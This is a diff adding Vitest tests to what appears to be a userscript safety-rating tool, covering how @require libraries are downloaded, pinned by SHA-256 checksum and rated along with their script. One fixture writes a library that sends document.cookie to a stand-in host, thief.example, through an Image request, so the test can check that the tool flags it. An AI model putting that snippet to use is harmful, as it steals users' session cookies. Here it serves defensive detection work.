@@ -6,7 +6,8 @@ import { type LoopbackServer, listenOnLoopback } from "@scriptorium/loopback-ser
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { downloadScripts } from "./download-scripts.ts";
 import { listed } from "./example.test-support.ts";
-import { findAny, findListed, pathOf } from "./find-files.ts";
+import { findAny, findListed, pathOf, sha256Of } from "./find-files.ts";
+import { countLibraries, downloadLibraries, readLibraries } from "./library-files.ts";
 import { rateFiles } from "./rate-files.ts";
 
 let folder: string;
@@ -68,6 +69,37 @@ describe("rating in processes", () => {
 	});
 });
 
+describe("libraries", () => {
+	const SCRIPT =
+		"// ==UserScript==\n// @name a\n// @match https://a.example/*\n// @require https://b.example/lib.js\n// ==/UserScript==\nrun();";
+	const address = "https://b.example/lib.js";
+
+	it("of the folder are rated with the script, others are not checked", async () => {
+		const script = put("one.user.js", SCRIPT);
+		const [without] = await rateFiles([script], { libraries: folder });
+		expect(without?.findings.map(({ type }) => type)).toContain("unchecked-library");
+		expect(countLibraries(folder, [{ id: "one", verdict: "benign", path: script }])).toEqual({ wanted: 1, present: 0 });
+
+		mkdirSync(join(folder, "libraries"));
+		const leak = "function run() { new Image().src = 'https://thief.example/?' + document.cookie; }";
+		put(`libraries/${sha256Of(Buffer.from(address))}.js`, leak);
+		expect(countLibraries(folder, [{ id: "one", verdict: "benign", path: script }])).toEqual({ wanted: 1, present: 1 });
+		const [together] = await rateFiles([script], { libraries: folder });
+		expect(together?.level).toBe("red");
+		expect(together?.findings.map(({ type }) => type)).not.toContain("unchecked-library");
+		const [first] = await rateFiles([script]);
+		expect(first?.findings.map(({ type }) => type)).toContain("unchecked-library");
+	});
+
+	it("with another checksum than the address names are not used", () => {
+		mkdirSync(join(folder, "libraries"));
+		const pinned = `${address}#sha256=${"a".repeat(64)}`;
+		put(`libraries/${sha256Of(Buffer.from(pinned))}.js`, "run();");
+		const [library] = readLibraries(folder, SCRIPT.replace(address, pinned));
+		expect(library).toEqual({ address: pinned, problem: "its file is not in the folder of the bench" });
+	});
+});
+
 describe("downloading", () => {
 	let server: LoopbackServer;
 	let base: string;
@@ -106,6 +138,18 @@ describe("downloading", () => {
 		expect(asked).toContain(
 			"/somebody/scripts/0123456789abcdef0123456789abcdef01234567/folder%20with%20spaces/one%231.user.js",
 		);
+	});
+
+	it("writes the libraries that the folder lacks, and leaves out those that cannot be had", async () => {
+		const require = (name: string) => `// @require ${base}/${name}%231.user.js\n`;
+		const block = `// ==UserScript==\n// @name a\n${require("one")}${require("three")}// ==/UserScript==\nvoid 1;`;
+		const files = [{ id: "a", verdict: "benign", path: put("a.user.js", block) }] as const;
+		expect(await downloadLibraries(folder, files)).toBe(1);
+		expect(countLibraries(folder, files)).toEqual({ wanted: 2, present: 1 });
+		expect(readLibraries(folder, block).map((library) => library.problem ?? library.text)).toEqual([
+			"void 1;",
+			"its file is not in the folder of the bench",
+		]);
 	});
 
 	it("asks for nothing that is there", async () => {
